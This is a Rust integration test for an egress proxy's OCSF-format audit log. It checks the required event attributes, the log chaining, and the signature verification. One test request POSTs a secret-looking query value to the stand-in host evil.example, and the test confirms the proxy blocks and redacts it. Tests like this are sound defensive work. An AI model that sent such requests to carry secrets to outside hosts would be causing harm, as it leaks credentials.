//! `--audit-format ocsf` (docs/operations.md, "OCSF lines"): a proxy's lines for an HTTP
//! request and a raw TCP tunnel are OCSF 1.2.0 events carrying every attribute their
//! class requires, still chained and verifiable.
//!
//! The required attributes below are those of the OCSF schema at tag v1.2.0
//! (github.com/ocsf/ocsf-schema): `events/base_event.json` (`metadata`, `severity_id`),
//! `includes/classification.json` (`activity_id`, `category_uid`, `class_uid`,
//! `type_uid`), `includes/occurrence.json` (`time`), `objects/metadata.json` (`product`,
//! `version`), `objects/product.json` (`vendor_name`), `events/network/network.json`
//! (`dst_endpoint`, `src_endpoint`), `events/network/http.json` (HTTP Activity, uid 2:
//! `http_request`, `http_response`), `objects/http_response.json` (`code`),
//! `objects/network_endpoint.json` (at least one of `ip`, `uid`, `name`, `hostname`, ...),
//! `objects/url.json` (at least one of `url_string`, `path`) and
//! `profiles/security_control.json` (`action_id`).

use std::io::{Read, Write};
use std::process::Command;
use std::time::Duration;

use serde_json::Value;

use crate::support::{ProxyBuilder, TestPki, run_bounded};

/// Required of every event (base event, classification, occurrence).
const BASE_REQUIRED: &[&str] = &[
    "activity_id",
    "category_uid",
    "class_uid",
    "type_uid",
    "time",
    "severity_id",
    "metadata",
];
/// Required of the Network category's classes (Network Activity, HTTP Activity).
const NETWORK_REQUIRED: &[&str] = &["dst_endpoint", "src_endpoint"];
/// Required of HTTP Activity.
const HTTP_REQUIRED: &[&str] = &["http_request", "http_response"];
/// Required by the security-control profile the events declare.
const SECURITY_CONTROL_REQUIRED: &[&str] = &["action_id"];
/// Attributes of which a network endpoint must have one.
const ENDPOINT_ONE_OF: &[&str] = &["ip", "uid", "name", "hostname", "svc_name"];

fn assert_has(event: &Value, keys: &[&str]) {
    for key in keys {
        assert!(
            event.get(key).is_some_and(|v| !v.is_null()),
            "no {key}: {event}"
        );
    }
}

fn assert_event(event: &Value, class_uid: u64) {
    assert_has(event, BASE_REQUIRED);
    assert_has(event, SECURITY_CONTROL_REQUIRED);
    assert_eq!(event["class_uid"], class_uid, "{event}");
    assert_eq!(event["category_uid"], 4, "{event}");
    let activity = event["activity_id"].as_u64().expect("activity_id");
    assert_eq!(event["type_uid"], class_uid * 100 + activity, "{event}");
    assert!(
        event["time"]
            .as_u64()
            .is_some_and(|t| t > 1_700_000_000_000),
        "{event}"
    );
    assert_eq!(event["metadata"]["version"], "1.2.0", "{event}");
    assert!(
        event["metadata"]["product"]["vendor_name"].is_string(),
        "{event}"
    );
    assert_has(event, NETWORK_REQUIRED);
    for endpoint in ["src_endpoint", "dst_endpoint"] {
        assert!(
            ENDPOINT_ONE_OF
                .iter()
                .any(|k| event[endpoint].get(k).is_some()),
            "{endpoint}: {event}"
        );
    }
    assert!(event["chain"].is_string(), "still chained: {event}");
}

/// Opens and closes an allowed raw TCP tunnel to a local echo server through the proxy.
fn tcp_tunnel(proxy_port: u16, port: u16) {
    let mut client = std::net::TcpStream::connect(("127.0.0.1", proxy_port)).expect("connect");
    client
        .set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    let connect = format!("CONNECT localhost:{port} HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n");
    client.write_all(connect.as_bytes()).expect("CONNECT");
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") && head.len() < 4096 {
        client.read_exact(&mut byte).expect("CONNECT answer");
        head.push(byte[0]);
    }
    assert!(
        head.starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&head)
    );
    client.write_all(b"ping").expect("write");
    let mut echoed = [0u8; 4];
    client.read_exact(&mut echoed).expect("echo");
}

#[test]
fn ocsf_lines_carry_what_their_class_requires() {
    let echo = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = echo.local_addr().expect("addr").port();
    let server = std::thread::spawn(move || {
        let (mut stream, _) = echo.accept().expect("accept");
        let mut buffer = [0u8; 64];
        while let Ok(n) = stream.read(&mut buffer) {
            if n == 0 || stream.write_all(&buffer[..n]).is_err() {
                break;
            }
        }
    });
    let pki = TestPki::new();
    let mut proxy = ProxyBuilder::new(&pki)
        .allow(&format!("localhost:{port}"))
        .resolve_loopback("localhost")
        .arg("--audit-format")
        .arg("ocsf")
        .start();
    let refused = crate::support::raw::plain(
        proxy.port(),
        b"POST http://evil.example/x?k=hunter2value HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
    );
    assert_eq!(refused.status, 403, "{refused:?}");
    tcp_tunnel(proxy.port(), port);
    server.join().expect("echo server");
    let status = proxy.terminate(Duration::from_secs(20)).expect("exits");
    assert!(status.success(), "{}", proxy.stderr());
    let text = proxy.audit_log_text();
    let events: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON"))
        .collect();
    let http = events
        .iter()
        .find(|e| e["class_uid"] == 4002)
        .unwrap_or_else(|| panic!("an HTTP Activity event: {text}"));
    assert_event(http, 4002);
    assert_has(http, HTTP_REQUIRED);
    assert_eq!(http["activity_id"], 6, "POST: {http}");
    assert_eq!(http["http_response"]["code"], 403);
    assert_eq!(http["action_id"], 2, "denied: {http}");
    assert_eq!(http["dst_endpoint"]["hostname"], "evil.example");
    assert_eq!(http["http_request"]["url"]["query_string"], "k=REDACTED");
    assert_eq!(http["unmapped"]["reason"], "host_not_allowed");
    assert!(!text.contains("hunter2value"), "{text}");
    let tcp: Vec<&Value> = events.iter().filter(|e| e["class_uid"] == 4001).collect();
    assert_eq!(tcp.len(), 2, "open and close: {text}");
    for event in &tcp {
        assert_event(event, 4001);
        assert_eq!(event["dst_endpoint"]["port"], port);
    }
    assert_eq!(tcp[0]["activity_id"], 1, "Open");
    assert_eq!(tcp[1]["activity_id"], 2, "Close");
    assert!(
        tcp[1]["traffic"]["bytes_out"].as_u64() >= Some(4),
        "{}",
        tcp[1]
    );
    // The OCSF log is chained and signed like airlock's own.
    let key = pki
        .proxy_ca_key
        .parent()
        .expect("dir")
        .join("audit-key.pub.pem");
    let mut verify = Command::new(env!("CARGO_BIN_EXE_airlock"));
    verify
        .args(["audit", "verify", "--key"])
        .arg(&key)
        .arg(proxy.audit_log_path());
    let verified = run_bounded(&mut verify, Duration::from_secs(30));
    assert_eq!(
        verified.status.and_then(|s| s.code()),
        Some(0),
        "{}",
        verified.stderr
    );
}
